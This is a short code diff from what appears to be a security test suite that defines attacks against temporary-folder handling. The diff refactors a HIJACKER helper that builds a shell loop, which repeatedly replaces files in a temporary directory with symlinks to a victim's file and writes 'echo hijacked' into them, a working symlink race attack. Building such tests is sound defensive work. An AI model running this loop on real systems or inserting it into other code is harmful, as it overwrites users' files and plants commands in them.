@@ -5,9 +5,12 @@ import { join } from "node:path";
 import type { Attack } from "../attack.ts";
 
 /** Swaps whatever appears in the temporary folder for a link to a file of the user's, and writes into it. */
-const HIJACKER = (temporary: string, victim: string): string =>
-  `cd ${temporary}; echo up; while [ ! -e stop ]; do for f in * .[!.]*; do [ "$f" = stop ] && continue; [ -e "$f" ] || continue; ` +
-  `(echo "echo hijacked" > "$f") & ln -sf ${victim} x.aside 2>/dev/null && mv -T x.aside "$f" 2>/dev/null; done; done`;
+function HIJACKER(temporary: string, victim: string): string {
+  return (
+    `cd ${temporary}; echo up; while [ ! -e stop ]; do for f in * .[!.]*; do [ "$f" = stop ] && continue; [ -e "$f" ] || continue; ` +
+    `(echo "echo hijacked" > "$f") & ln -sf ${victim} x.aside 2>/dev/null && mv -T x.aside "$f" 2>/dev/null; done; done`
+  );
+}
 
 export const INPUT: readonly Attack[] = [
   {
